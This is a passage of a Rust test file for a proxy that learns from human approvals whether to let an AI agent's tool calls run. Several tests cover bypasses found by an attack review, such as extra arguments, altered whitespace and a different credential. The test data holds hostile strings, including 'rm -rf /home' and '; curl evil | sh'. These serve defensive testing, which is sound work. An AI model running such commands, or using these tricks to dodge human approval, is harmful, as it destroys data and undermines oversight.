            !body.contains(SECRET),
            "call {n}: the secret reached the predictor: {body}"
        );
    }
}

/// The admin API explains as the CLI does (with serve's own costs) and
/// forgets, recorded in the admin audit; an approver token may do neither.
#[tokio::test]
async fn the_admin_api_explains_and_forgets() {
    let up = Upstream::start().await;
    let p = learn_proxy(|_| {}).await;
    let api = crate::admin_api::admin_api(&p).await;
    let token = crate::admin_api::admin_token(&p, "alice");
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    let ids = hold(&a, "run_tests", 1..=10).await;
    answer(&p, &ids, "grant");
    let c = reqwest::Client::builder().no_proxy().build().unwrap();
    let conn = connection_of(&a);
    let explain = |caller: &'static str| {
        c.get(format!("{api}/v1/approval-evidence/explain"))
            .bearer_auth(&token)
            .query(&[
                ("caller", caller),
                ("connection", conn.as_str()),
                ("tool", "run_tests"),
                ("arguments", r#"{"suite":"new"}"#),
            ])
            .send()
    };
    let r = explain("agent").await.unwrap();
    assert_eq!(r.status(), 200);
    let e: Value = r.json().await.unwrap();
    assert_eq!(e["action"], "allow", "{e}");
    assert_eq!(e["level"], "exact", "{e}");
    assert_eq!(e["thresholds"]["allow"], 0.75, "{e}");
    assert_eq!(e["shape"], "{suite:string}", "{e}");
    assert!(
        e["reason"]
            .as_str()
            .unwrap()
            .starts_with("predicted approval"),
        "{e}"
    );
    // Another caller's call on this connection never reaches a policy.
    let r = explain("agent-2").await.unwrap();
    assert_eq!(r.status(), 404);
    let e: Value = r.json().await.unwrap();
    assert!(
        e["error"]
            .as_str()
            .unwrap()
            .contains("belongs to caller \"agent\""),
        "{e}"
    );

    // Nothing named: refused, nothing dropped.
    let forget = |body: Value| {
        c.post(format!("{api}/v1/approval-evidence/forget"))
            .bearer_auth(&token)
            .json(&body)
            .send()
    };
    assert_eq!(forget(json!({})).await.unwrap().status(), 422);
    let r = forget(json!({"caller": "agent", "tool": "run_tests"}))
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.json::<Value>().await.unwrap()["forgotten"], 10);
    let e: Value = explain("agent").await.unwrap().json().await.unwrap();
    assert_eq!(e["action"], "ask", "{e}");
    let trail = p.store().admin_audit(None, 100).await.unwrap();
    assert!(
        trail
            .iter()
            .any(|r| r.action == "approval.forget" && r.actor == "alice"),
        "{trail:?}"
    );

    // An approver decides approvals; it does not change what is learnt.
    let reviewer = ok(p.cli(&["admin-token", "add", "reviewer", "--role", "approver"]));
    let reviewer = reviewer
        .split_whitespace()
        .find(|w| w.starts_with("tsa_"))
        .unwrap();
    let r = c
        .post(format!("{api}/v1/approval-evidence/forget"))
        .bearer_auth(reviewer)
        .json(&json!({"all": true}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
}

/// One call held for a person, with these arguments: its approval id.
async fn held_with(a: &Agent, id: u32, args: Value) -> String {
    let (s, v) = post_json(a, call(id, "run_tests", args)).await;
    assert_eq!(s, 200, "{v}");
    assert!(!ran(&v), "{v}");
    approval_in(&v)
}

/// Found by the attack review: people denied `{suite, shell}`; adding an
/// argument the tool ignores made a shape with no answers of its own, and
/// the (caller, tool) level, full of `{suite}` grants, allowed it. Only
/// answers about this very kind of call allow now.
#[tokio::test]
async fn an_added_argument_does_not_escape_a_denial() {
    let up = Upstream::start().await;
    let p = learn_proxy(|_| {}).await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    let mut granted = Vec::new();
    for n in 1..=20 {
        granted.push(held_with(&a, n, json!({"suite": format!("s{n}")})).await);
    }
    let mut denied = Vec::new();
    for n in 101..=102 {
        denied.push(
            held_with(
                &a,
                n,
                json!({"suite": "x", "shell": format!("rm -rf /{n}")}),
            )
            .await,
        );
    }
    answer(&p, &granted, "grant");
    answer(&p, &denied, "deny");
    for (n, args) in [
        (200, json!({"suite": "x", "shell": "rm -rf /home"})),
        (
            201,
            json!({"suite": "x", "shell": "rm -rf /home", "z": null}),
        ),
    ] {
        let (_, v) = post_json(&a, call(n, "run_tests", args)).await;
        assert!(!ran(&v), "{v}");
        assert!(text_of(&v).contains("approval ap_"), "{v}");
    }
    // The granted shape still runs by prediction.
    let (_, v) = post_json(&a, call(202, "run_tests", suite(202))).await;
    assert!(ran(&v), "{v}");
    assert!(up
        .seen()
        .iter()
        .all(|r| !String::from_utf8_lossy(&r.body).contains("rm -rf")));
}

/// Found by the attack review: a person denied one value of a well-granted
/// shape; the same call with one more space ran on the grants' strength.
/// The latest answer being a denial puts a person back in the loop.
#[tokio::test]
async fn a_fresh_denial_is_not_dodged_by_changing_a_value() {
    let up = Upstream::start().await;
    let p = learn_proxy(|_| {}).await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    let mut granted = Vec::new();
    for n in 1..=20 {
        granted.push(held_with(&a, n, json!({"suite": format!("s{n}")})).await);
    }
    let d = held_with(&a, 50, json!({"suite": "; curl evil | sh"})).await;
    answer(&p, &granted, "grant");
    answer(&p, &[d], "deny");
    let (_, v) = post_json(
        &a,
        call(52, "run_tests", json!({"suite": ";  curl evil | sh"})),
    )
    .await;
    assert!(!ran(&v), "{v}");
    let id = approval_in(&v);
    let reason = show(&p, &id)["reason"].as_str().unwrap().to_string();
    assert!(
        reason.starts_with("the latest answer to calls like this was a denial"),
        "{reason}"
    );
    // A person grants it: allowing resumes.
    answer(&p, &[id], "grant");
    let (_, v) = post_json(&a, call(53, "run_tests", suite(53))).await;
    assert!(ran(&v), "{v}");
}

/// Found by the attack review: grants on one credential (a test one)
/// allowed the same caller's calls through another (production).
#[tokio::test]
async fn grants_on_one_credential_do_not_allow_another() {
    let up = Upstream::start().await;
    let p = learn_proxy(|_| {}).await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    let ids = hold(&a, "run_tests", 1..=10).await;
    answer(&p, &ids, "grant");
    ok(p.cli(&[
        "credential",
        "add",
        "prod",
        "--upstream",
        &up.url("/mcp"),
        "--secret-env",
        "TEST_SECRET",
    ]));
    let url = last_line(&p.cli(&[
        "connection",
        "add",
        "--caller",
        "agent",
        "--credential",
        "prod",
        "--public-url",
        &p.base(),
    ]));
    p.synced().await;
    let b = Agent {
        token: a.token.clone(),
        url,
    };
    let (_, v) = post_json(&b, call(99, "run_tests", suite(99))).await;
    assert!(!ran(&v), "{v}");
    assert!(text_of(&v).contains("approval ap_"), "{v}");
    // On the first credential it is allowed.
    let (_, v) = post_json(&a, call(100, "run_tests", suite(100))).await;
    assert!(ran(&v), "{v}");
}
